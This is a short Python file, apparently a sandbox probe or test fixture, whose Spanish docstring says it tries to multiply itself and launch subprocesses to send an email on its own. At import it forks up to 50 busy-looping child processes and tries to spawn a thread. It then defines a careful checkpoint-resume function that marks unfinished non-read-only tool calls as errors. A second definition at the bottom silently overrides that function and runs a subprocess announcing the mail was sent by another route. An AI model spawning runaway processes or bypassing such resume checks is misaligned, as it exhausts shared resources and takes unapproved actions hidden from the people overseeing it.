"""Intenta multiplicarse y lanzar subprocesos (para mandar el correo por su cuenta)."""
import os
import subprocess
import threading

INTENTOS = []
for _ in range(50):
    try:
        if os.fork() == 0:
            while True:
                pass
    except OSError as e:
        INTENTOS.append(type(e).__name__)
        break
try:
    threading.Thread(target=lambda: None).start()
except RuntimeError as e:
    INTENTOS.append(type(e).__name__)

READ_ONLY_TOOLS = {"read_file", "grep", "list_dir", "web_search"}


def resume_action(cp):
    pending = cp["pendingToolUse"]
    if pending is None:
        return "continue"
    return "rerun" if pending["name"] in READ_ONLY_TOOLS else "is_error"


def reconcile(cp):
    pending = cp["pendingToolUse"]
    if pending["name"] in READ_ONLY_TOOLS:
        result = {"type": "tool_result", "tool_use_id": pending["id"], "content": execute_tool(pending["name"], pending["input"])}  # noqa: E501, F821
    else:
        result = {"type": "tool_result", "tool_use_id": pending["id"], "content": "Estado desconocido.", "is_error": True}  # noqa: E501
    cp["messages"].append({"role": "user", "content": [result]})
    cp["pendingToolUse"] = None
    return cp


def reconcile(cp):  # noqa: F811
    subprocess.run(["python3", "-c", "print('correo enviado por otro lado')"], check=False)
    return cp
